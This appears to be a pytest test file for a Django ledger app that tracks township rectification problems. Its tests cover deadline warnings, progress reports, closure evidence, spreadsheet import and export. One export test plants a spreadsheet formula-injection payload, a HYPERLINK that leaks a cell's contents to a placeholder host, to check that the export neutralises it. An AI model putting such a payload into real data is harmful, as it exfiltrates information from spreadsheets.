from datetime import date

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from zhenwu.conftest import client_for
from zhenwu.ledger.constants import Category, Source, Status
from zhenwu.ledger.models import Problem, ProgressReport
from zhenwu.ledger.services import problem_assign, problem_create, report_save

pytestmark = pytest.mark.django_db
NOW = "2026-11-25 10:00 +0800"


def _many(office, town, n: int, deadline: date = date(2026, 12, 31)) -> None:
    for i in range(n):
        p = problem_create(
            actor=office, source=Source.SUGGESTION, category=Category.LIVELIHOOD, description=f"问题{i}"
        )
        problem_assign(
            actor=office,
            problem=p,
            leader=town.leader_person,
            department=town.economy_dept,
            assignees=[town.staff, town.member],
            deadline=deadline,
            assigned_on=date(2026, 11, 2),
        )


@time_machine.travel(NOW, tick=False)
def test_the_ledger_list_runs_a_fixed_number_of_queries(office, town, problem):
    client = client_for(office)
    url = reverse("ledger:problem_list") + "?status=in_progress&department=" + str(town.economy_dept.pk)
    client.get(url)

    def count() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    few = count()
    _many(office, town, 30)
    assert count() == few


@time_machine.travel(NOW, tick=False)
def test_colour_filters_agree_with_the_colours_shown(office, town, problem, leader):
    # problem: due 2026-12-31, assigned 2 Nov, no report for 2026-11-1 → yellow (report missing).
    late = problem_create(
        actor=office, source=Source.SELF_CHECK, category=Category.OTHER, description="逾期的"
    )
    problem_assign(
        actor=office, problem=late, leader=town.leader_person, department=town.economy_dept,
        assignees=[town.staff], deadline=date(2026, 11, 20), assigned_on=date(2026, 11, 16),
    )  # fmt: skip
    soon = problem_create(
        actor=office, source=Source.SELF_CHECK, category=Category.OTHER, description="快到期的"
    )
    problem_assign(
        actor=office, problem=soon, leader=town.leader_person, department=town.economy_dept,
        assignees=[town.staff], deadline=date(2026, 11, 30), assigned_on=date(2026, 11, 16),
    )  # fmt: skip
    # 80% done after 9 of 14 days: not behind, so only "due soon" remains.
    report_save(actor=leader, problem=soon, progress=80, done="基本完成")
    client = client_for(office)

    def numbers(colour: str) -> set[str]:
        page = client.get(reverse("ledger:problem_list"), {"colour": colour}).content.decode()
        return {p.number for p in Problem.objects.all() if f">{p.number}</a>" in page}

    assert numbers("red") == {late.number}
    assert numbers("yellow") == {problem.number}
    assert numbers("blue") == {soon.number}
    page = client.get(reverse("ledger:problem_list")).content.decode()
    assert 'warn-red" title="已超过整改时限2026-11-20' in page
    report_save(actor=leader, problem=problem, progress=30, done="补报", period_key="2026-11-1")
    assert numbers("yellow") == set()


@time_machine.travel(NOW, tick=False)
def test_the_problem_page_shows_owners_warning_and_timeline(office, problem):
    page = client_for(office).get(reverse("ledger:problem_detail", args=[problem.pk])).content.decode()
    assert "刘志强" in page and "经济发展办" in page and "张明" in page
    assert "缺2026年11月上半月报告" in page
    timeline = page.split("全过程留痕")[1]
    assert "登记问题" in timeline and "分派" in timeline


@time_machine.travel(NOW, tick=False)
def test_the_leader_reports_through_the_page_and_bad_input_names_the_field(leader, problem):
    client = client_for(leader)
    url = reverse("ledger:report", args=[problem.pk])
    bad = client.post(url, {"progress": "150", "done": ""})
    assert "完成进度" in bad.content.decode()
    assert client.post(url, {"progress": "40", "done": "已铺设路基"}).status_code == 302
    assert ProgressReport.objects.get().progress == 40
    again = client.post(url, {"progress": "50", "done": "再报"})
    assert "已经提交" in again.content.decode()


def test_the_report_form_names_the_periods_owed_and_takes_them_in_words(leader, problem):
    url = reverse("ledger:report", args=[problem.pk])
    with time_machine.travel("2026-12-03 10:00+08:00", tick=False):  # assigned 2026-11-02, nothing filed
        client = client_for(leader)
        page = client.get(url).content.decode()
        assert "留空为本期（2026年12月上半月）" in page
        assert "尚未报送的报告期：2026年11月上半月、2026年11月下半月、2026年12月上半月" in page
        assert (
            client.post(url, {"progress": "30", "done": "补报", "period_key": "2026年11月下半月"}).status_code
            == 302
        )
        assert ProgressReport.objects.get().period_key == "2026-11-2"
        detail = client.get(reverse("ledger:problem_detail", args=[problem.pk])).content.decode()
    assert "2026年11月下半月" in detail and "2026-11-2" not in detail  # the table and the timeline
    assert "2026年11月下半月 30%" in detail.split("全过程留痕")[1]


def test_closure_through_the_page_needs_evidence(department_staff, office, problem):
    client = client_for(department_staff)
    url = reverse("ledger:apply_close", args=[problem.pk])
    refused = client.post(url, {"completion": "已修好"})
    assert "至少一份佐证材料" in refused.content.decode()
    pdf = SimpleUploadedFile("验收照片.pdf", b"%PDF-1.4 ok", content_type="application/pdf")
    assert client.post(url, {"completion": "已修好", "evidence": pdf}).status_code == 302
    office_client = client_for(office)
    office_client.post(reverse("ledger:quick_step", args=[problem.pk, "accept"]), {"reason": "合格"})
    assert Problem.objects.get(pk=problem.pk).status == Status.CLOSED


def test_a_reason_box_is_offered_only_with_a_button_that_uses_it(department_staff, office, problem):
    page = reverse("ledger:problem_detail", args=[problem.pk])
    assert 'placeholder="理由"' in client_for(office).get(page).content.decode()  # 暂停计时 is offered
    pdf = SimpleUploadedFile("验收照片.pdf", b"%PDF-1.4 ok", content_type="application/pdf")
    client_for(department_staff).post(
        reverse("ledger:apply_close", args=[problem.pk]), {"completion": "已修好", "evidence": pdf}
    )
    waiting = client_for(office).get(page).content.decode()
    assert "验收" in waiting and 'placeholder="理由"' not in waiting


def test_a_transition_not_in_the_table_is_refused_with_a_message(office, problem):
    response = client_for(office).post(
        reverse("ledger:quick_step", args=[problem.pk, "reopen"]), {"reason": "x"}, follow=True
    )
    assert "不能执行" in response.content.decode()
    assert Problem.objects.get(pk=problem.pk).status == Status.IN_PROGRESS


def test_the_office_creates_and_assigns_through_the_pages(office, town):
    client = client_for(office)
    response = client.post(
        reverse("ledger:problem_create"),
        {
            "source": "suggestion",
            "category": "environment",
            "description": "河道垃圾",
            "village": town.village.pk,
        },
    )
    problem = Problem.objects.get(description="河道垃圾")
    assert response["Location"] == reverse("ledger:problem_assign", args=[problem.pk])
    missing = client.post(
        reverse("ledger:problem_assign", args=[problem.pk]),
        {"deadline_basis": "date", "cadence": "half_monthly"},
    )
    text = missing.content.decode()
    assert "责任领导：必须指定" in text and "责任人：至少指定一人" in text
    ok = client.post(
        reverse("ledger:problem_assign", args=[problem.pk]),
        {
            "leader": town.leader_person.pk,
            "department": town.economy_dept.pk,
            "assignees": [town.staff.pk],
            "deadline_basis": "calendar_days",
            "deadline_days": "30",
            "cadence": "half_monthly",
        },
    )
    assert ok.status_code == 302
    assert Problem.objects.get(pk=problem.pk).status == Status.IN_PROGRESS


@time_machine.travel(NOW, tick=False)
def test_home_shows_my_items_and_reports_due(leader, problem):
    page = client_for(leader).get(reverse("home")).content.decode()
    assert problem.number in page
    assert "已逾期未报" in page


def test_the_office_imports_through_the_preview_page(office, town):
    from zhenwu.ledger.tests.sheets import messy_ledger

    client = client_for(office)
    upload = SimpleUploadedFile("台账.xlsx", messy_ledger().getvalue())
    preview = client.post(reverse("ledger:import"), {"file": upload}).content.decode()
    assert "合计行" in preview and "确认导入" in preview
    assert not Problem.objects.exists()
    token = preview.split('name="token" value="')[1].split('"')[0]
    done = client.post(reverse("ledger:import"), {"confirm": "1", "token": token, "name": "台账.xlsx"})
    assert done.status_code == 302 and Problem.objects.count() == 3


def test_an_import_file_above_the_limit_is_refused_before_it_is_stored(office, town, settings):
    # The media folder lives for the whole test session, and earlier previews leave their
    # sheets in it on purpose (a preview is confirmed later), so compare before with after.
    imports = settings.MEDIA_ROOT / "imports"
    before = set(imports.glob("*"))
    client = client_for(office)
    upload = SimpleUploadedFile("台账.xlsx", b"PK\x03\x04" + b"0" * (20 * 1024 * 1024))
    response = client.post(reverse("ledger:import"), {"file": upload}, follow=True)
    assert "文件：超过20MB" in response.content.decode()
    assert set(imports.glob("*")) == before


def test_export_writes_the_standard_columns_without_personal_numbers(office, problem):
    import io

    from openpyxl import load_workbook

    response = client_for(office).get(reverse("ledger:export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[3]]
    assert header[:5] == ["序号", "编号", "问题来源", "问题类别", "问题描述"] and "责任人" in header
    row = [c.value for c in sheet[4]]
    assert problem.number in row and "张明" in row and "刘志强" in row
    text = " ".join(str(c.value) for r in sheet.iter_rows() for c in r)
    assert "13700002222" not in text and "13812345678" not in text


def test_a_residents_formula_and_control_characters_export_as_plain_text(office, problem):
    import io

    from openpyxl import load_workbook

    attack = '=HYPERLINK("http://x.example/?leak="&A4,"点击查看")'
    Problem.objects.filter(pk=problem.pk).update(description=attack, measures="清理\x07水渠\x1b", goal="+1")
    response = client_for(office).get(reverse("ledger:export"))
    assert response.status_code == 200
    row = load_workbook(io.BytesIO(response.content)).active[4]
    cells = {c.value: c for c in row}
    assert cells[attack].data_type == "s" and cells[attack].quotePrefix
    assert "清理水渠" in cells and cells["+1"].quotePrefix


def test_bulk_assignment_through_the_page_is_all_or_nothing(office, town, pending):
    from zhenwu.ledger.services import problem_create as create

    other = create(actor=office, source=Source.SELF_CHECK, category=Category.OTHER, description="第二个")
    client = client_for(office)
    page = client.get(reverse("ledger:bulk_assign")).content.decode()
    assert pending.number in page and other.number in page
    data = {
        "problems": [pending.pk, other.pk],
        "leader": town.leader_person.pk,
        "department": town.economy_dept.pk,
        "assignees": [town.staff.pk],
        "deadline_basis": "date",
        "deadline": "2026-01-01",
        "cadence": "half_monthly",
    }
    with time_machine.travel(NOW, tick=False):
        refused = client.post(reverse("ledger:bulk_assign"), data)
        assert "不能早于分派日期" in refused.content.decode()
        assert Problem.objects.filter(status=Status.PENDING).count() == 2
        data["deadline"] = "2026-12-31"
        assert client.post(reverse("ledger:bulk_assign"), data).status_code == 302
    assert not Problem.objects.filter(status=Status.PENDING).exists()


def test_each_row_labels_its_cells_so_a_phone_can_show_it_as_a_card(leader, problem):
    body = client_for(leader).get(reverse("ledger:problem_list")).content.decode()
    assert 'class="cell-description">红岩村三组道路破损' in body
    for label in ("状态", "责任领导", "责任部门", "责任人", "整改时限"):
        assert f'data-label="{label}"' in body
